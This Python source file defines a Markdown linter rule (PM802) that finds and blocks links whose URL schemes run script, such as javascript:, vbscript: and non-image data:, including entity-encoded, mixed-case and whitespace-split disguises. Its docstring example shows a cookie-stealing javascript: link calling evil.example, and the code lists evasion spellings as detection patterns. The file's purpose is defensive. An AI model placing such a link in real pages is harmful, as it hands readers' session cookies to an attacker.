"""A link, image or autolink with a URL scheme that runs script.

## What it does
Reports `javascript:`, `vbscript:` and `livescript:` URLs, and `data:` URLs other than
PNG, GIF, JPEG, WebP and AVIF images, in links, images, autolinks, reference definitions,
attribute lists and raw HTML — however they are spelled: in any letter case (`JaVaScRiPt:`),
with entities (`javascript&#58;`, `&#106;avascript:`), or with tabs and line breaks inside
the scheme, which browsers remove. Links that the linter's parser refuses but the site's
Markdown engine still renders (`[x](javascript:alert(1) more)`) are found too. Code spans and
code blocks are ignored.

## Why is this bad?
Python-Markdown, which renders the site, copies a link's URL into the page as written; a
reader who clicks a `javascript:` link runs the author's script with the reader's session.
A postmortem links to dashboards, tickets and pull requests: web addresses.

## Example
```markdown
See the [dashboard](javascript&#58;fetch('//evil.example/?'+document.cookie)).
```

## Use instead
```markdown
See the [dashboard](https://grafana.example.com/d/checkout).
```
"""

from __future__ import annotations

import bisect
import re
from urllib.parse import unquote

from linter.rules._html import decoded
from linter.rules._inline import inline_children, text_runs, without_line_breaks
from linter.rules.base import Violation, define
from linter.safe_text import safe_excerpt
from linter.urls import browser_form

_SCRIPT_SCHEMES = ("javascript", "vbscript", "livescript")
_SAFE_DATA_IMAGE = re.compile(r"data:image/(png|gif|jpe?g|webp|avif)[;,]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
# Where either Markdown engine (or a browser) reads a URL in text: a link destination, a
# reference definition, an autolink, an HTML or attr_list attribute. Spaces and control
# characters may come before it.
_URL_IN_TEXT = re.compile(
    r"(\]\(|\]:|<|\b(?:href|src|srcset|action|formaction|xlink:href|poster|background|data|ping)\s*=)"
    r"[\x00-\x20\"']*<?[\x00-\x20]*([a-z][a-z0-9+.-]*:[^\s)\"'>]*)",
    re.IGNORECASE,
)


# Every unsafe scheme ends in 'script:' or is 'data:' once a URL is normalized. A scheme's
# letters can only be disguised by an entity or a percent escape, or split by tabs and line
# breaks (which normalizing deletes); its ':' may also be backslash-escaped. A body with none
# of these, tabs and line breaks removed, cannot hold an unsafe URL. The search runs on bytes:
# ASCII-only lowering is enough (no other character lowers to one of these letters alone) and
# four searches that each start with a literal are far faster than one alternation.
_MAYBE_UNSAFE = tuple(re.compile(pattern) for pattern in (rb"script\\?:", rb"data\\?:", rb"%[0-9a-f]{2}", rb"&[#a-z]"))


def may_hold_unsafe_url(text: str) -> bool:
    """False only when no URL in ``text`` can have an unsafe scheme (an exact pre-check)."""
    squashed = text.encode("utf-8", "surrogatepass").lower().translate(None, b"\t\n\r")
    return any(pattern.search(squashed) for pattern in _MAYBE_UNSAFE)


def normalized(url: str) -> str:
    """A URL as a browser resolves its scheme (``linter.urls.browser_form``: entities decoded,
    tabs and newlines removed, C0 controls and spaces stripped), lower-cased. Percent escapes are decoded
    first: the parser percent-encodes what the site's engine leaves as written
    (``java&#x09;script:`` becomes ``java%09script:`` in the parser's link, a tab in the page)."""
    return browser_form(unquote(url)).lower()


def unsafe_scheme(url: str, image: bool = False) -> str | None:
    """The offending scheme (``'javascript:'``) of ``url``, or None when it is safe."""
    url = normalized(url)
    match = _SCHEME.match(url)
    if not match:
        return None
    scheme = match.group(1)
    if scheme in _SCRIPT_SCHEMES:
        return scheme + ":"
    if scheme == "data" and not (image and _SAFE_DATA_IMAGE.match(url)):
        return "data:"
    return None


def _message(scheme: str, where: str, url: str) -> str:
    return (f"unsafe URL scheme '{scheme}' in {where}: '{safe_excerpt(url, 60)}'; "
            f"link to an https:// address instead")


def _inline_urls(document):
    """URLs the parser recognised (links, autolinks, images; reference links resolved), and
    those in inline HTML."""
    for child in inline_children(document):
        token = child.token
        if token.type == "link_open":
            url, image, where = str(token.attrGet("href") or ""), False, "a link"
        elif token.type == "image":
            url, image, where = str(token.attrGet("src") or ""), True, "an image"
        elif token.type == "html_inline":
            yield from _scan(child.line, decoded(token.content), html=True)
            continue
        else:
            continue
        scheme = unsafe_scheme(url, image)
        if scheme:
            yield child.line, "](" + unquote(url)[:4], _message(scheme, where, url)


def _where(prefix: str) -> str:
    return {"](": "a link", "]:": "a link reference", "<": "an autolink"}.get(prefix, "an attribute")


def _scan(line: int, text: str, html: bool):
    """``(line, needle, message)`` for URLs with unsafe schemes in text that a Markdown engine
    or a browser reads as a URL; ``needle`` finds the column on the file line."""
    if ":" not in text or not ("]" in text or "<" in text or "=" in text):
        return  # every match needs a ':' and a ']', '<' or '=' before it (timestamps have neither)
    visible, breaks = without_line_breaks(text)
    for match in _URL_IN_TEXT.finditer(visible):
        prefix, url = match.group(1), match.group(2)
        start = match.start()
        image = ((prefix == "](" and visible.rfind("![", 0, start) > visible.rfind("](", 0, start))
                 or prefix.lower().startswith(("src", "poster")))
        scheme = unsafe_scheme(url, image)
        if scheme:
            where = "raw HTML" if html else "an image" if image else _where(prefix)
            yield line + bisect.bisect_right(breaks, match.start()), prefix + url[:4], _message(scheme, where, url)


def _text_urls(document):
    """Links in text the parser left alone (it refuses script URLs) and in HTML blocks: the
    site's Markdown engine and the browser still read them."""
    for _parent, line, text in text_runs(document):
        yield from _scan(line, text, html=False)
    for token in document.tokens:
        if token.type == "html_block" and token.map:
            yield from _scan(token.map[0] + 1, decoded(token.content), html=True)


def check(document, context):
    if not may_hold_unsafe_url(document.body_text):
        return  # most files: skips walking every inline child and text run
    found = sorted([*_inline_urls(document), *_text_urls(document)], key=lambda item: item[0])
    for line, needle, message in found:
        yield Violation(line, document.column_of(line, needle), message)


RULE = define(__doc__, "PM802", "unsafe-url", "error", check, suppressible=False, blocks_publication=True)
